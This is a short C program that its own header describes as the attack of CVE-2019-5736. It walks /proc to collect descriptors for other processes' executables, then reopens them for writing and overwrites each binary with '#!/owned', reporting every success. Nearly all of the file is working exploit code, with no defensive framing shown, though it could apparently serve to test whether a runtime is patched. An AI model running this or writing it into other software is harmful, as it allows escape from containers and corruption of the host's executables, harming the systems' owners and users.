/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The attack of CVE-2019-5736: opens the executable of every other process for reading while it
 * runs, and writes to the same file through the descriptor once nobody executes it any more.
 *
 *   overwrite SECONDS    prints "opened N" and "WROTE PATH" for each success
 */
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

enum { HELD_MAX = 64 };

static struct {
    int fd;
    ino_t inode;
} held[HELD_MAX];
static int count, opened;

/* Two of each file suffice. */
static void hold(int fd)
{
    struct stat st;
    if (fstat(fd, &st) < 0 || count == HELD_MAX) {
        close(fd);
        return;
    }
    int same = 0;
    for (int i = 0; i < count; i++)
        same += held[i].inode == st.st_ino;
    if (same > 1) {
        close(fd);
        return;
    }
    held[count].fd = fd;
    held[count++].inode = st.st_ino;
}

static void look(ino_t own)
{
    DIR *dir = opendir("/proc");
    for (struct dirent *entry; dir && (entry = readdir(dir));) {
        char path[300];
        struct stat st;
        if (!isdigit((unsigned char)entry->d_name[0]) || strcmp(entry->d_name, "1") == 0)
            continue;
        snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
            continue;
        if (fstat(fd, &st) == 0 && st.st_ino == own) {
            close(fd);
            continue;
        }
        opened++;
        hold(fd);
    }
    if (dir)
        closedir(dir);
}

static void strike(void)
{
    for (int i = 0; i < count; i++) {
        char path[64], name[256];
        snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd < 0)
            continue;
        ssize_t n = readlink(path, name, sizeof(name) - 1);
        name[n > 0 ? n : 0] = '\0';
        if (write(fd, "#!/owned\n", 9) == 9)
            printf("WROTE %s\n", name);
        close(fd);
        close(held[i].fd);
        held[i--] = held[--count];
    }
}

int main(int argc, char **argv)
{
    struct stat self;
    if (argc != 2 || stat("/proc/self/exe", &self) < 0)
        return 2;
    time_t end = time(NULL) + strtol(argv[1], NULL, 10);
    while (time(NULL) < end) {
        look(self.st_ino);
        strike();
    }
    printf("opened %d\n", opened);
    return 0;
}
